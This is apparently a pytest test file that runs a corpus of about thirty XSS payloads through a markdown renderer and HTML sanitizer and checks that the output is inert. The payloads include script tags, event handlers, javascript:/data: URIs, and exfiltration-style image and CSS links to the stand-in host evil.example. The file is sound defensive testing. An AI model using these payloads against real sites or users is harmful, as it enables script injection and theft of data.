"""Model output and synced text render inert: an XSS corpus through render_markdown."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from revtops_kernel.ui.markdown import ALLOWED_TAGS, escape_text, render_markdown, sanitize_html

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "Hello <script src=https://evil.example/x.js></script> world",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(document.cookie))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body{background:url(https://evil.example/leak)}</style>",
    '<svg onload="alert(1)"><circle r=1></circle></svg>',
    "<svg><script>alert(1)</script></svg>",
    "![chart](https://evil.example/pixel.png?secret=acme-pipeline)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>x</script> |",
    "```html\n<script>alert(1)</script>\n```",
    '<form action="https://evil.example"><input name=q></form>',
    "<object data=https://evil.example/x.swf></object>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<<script>script>alert(1)<</script>/script>",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
]


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def assert_inert(rendered: str, *, template_tags: frozenset[str] = frozenset()) -> None:
    """No element outside the allowlist (plus the card templates' own), no handler, no
    URL but http(s)/mailto, nothing that loads."""
    parser = _Elements()
    parser.feed(rendered)
    for tag, attrs in parser.elements:
        assert tag in ALLOWED_TAGS | template_tags, (tag, rendered)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, rendered)
            assert name not in {"src", "srcset", "action", "formaction", "background"}, rendered
            if name == "href":
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme in {"http", "https", "mailto"}, (value, rendered)
            if name == "style":
                assert "url(" not in value and "expression" not in value, rendered


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_payload_renders_inert(payload: str) -> None:
    assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_sanitizer_alone_removes_active_html(payload: str) -> None:
    """The second layer holds even for raw HTML that never went through markdown."""
    assert_inert(sanitize_html(payload))


def test_corpus_leaves_no_script_or_handler_text_in_markup() -> None:
    """Script bodies survive only as escaped text, never as tags."""
    for payload in XSS_CORPUS:
        rendered = render_markdown(payload)
        assert "<script" not in rendered.lower() and "<img" not in rendered.lower()


def test_markdown_still_renders() -> None:
    rendered = render_markdown(
        "## Pipeline\n\n**$1.2M** in *Proposal*, see [report](https://example.com/r).\n\n"
        "| stage | amount |\n|:--|--:|\n| Won | 10 |\n\n- one\n- two\n\n`code`"
    )
    assert "<h2>Pipeline</h2>" in rendered
    assert "<strong>$1.2M</strong>" in rendered and "<em>Proposal</em>" in rendered
    assert (
        '<a href="https://example.com/r" target="_blank" rel="noopener noreferrer nofollow">'
        in (rendered)
    )
    assert '<td style="text-align:right">10</td>' in rendered
    assert "<li>one</li>" in rendered and "<code>code</code>" in rendered


def test_script_in_text_is_shown_as_text() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown("<script>alert(1)</script>")


def test_external_image_becomes_its_alt_text() -> None:
    assert render_markdown("![Q3 chart](https://evil.example/p.png?d=secret)") == (
        "<p>[image: Q3 chart]</p>\n"
    )


def test_style_attribute_keeps_only_text_align() -> None:
    cleaned = sanitize_html('<td style="text-align:right;background:url(https://e/x)">1</td>')
    assert "url(" not in cleaned


def test_escape_text_keeps_lines() -> None:
    assert escape_text("a <b>\nc") == "a &lt;b&gt;<br>c"
